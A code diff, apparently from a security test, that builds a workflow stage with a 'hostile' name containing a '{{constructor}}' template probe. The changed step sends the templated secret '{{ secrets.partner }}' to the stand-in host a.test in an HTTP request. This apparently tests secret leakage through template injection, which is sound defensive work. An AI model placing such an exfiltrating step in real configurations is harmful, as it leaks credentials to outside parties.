@@ -19,7 +19,7 @@ const stage = useConsole('settings', {
       name: `${hostile} {{constructor}}`,
       owner: people.administrator.email,
       listener: { add_authentication: true, endpoint_secret: '{{ secrets.signing }}' },
-      steps: [{ name: 'say', type: 'stop', as: 'succeeded', message: '{{ secrets.partner }}' }],
+      steps: [{ name: 'say', type: 'http.request', url: 'https://a.test/{{ secrets.partner }}' }],
     },
   ],
 });
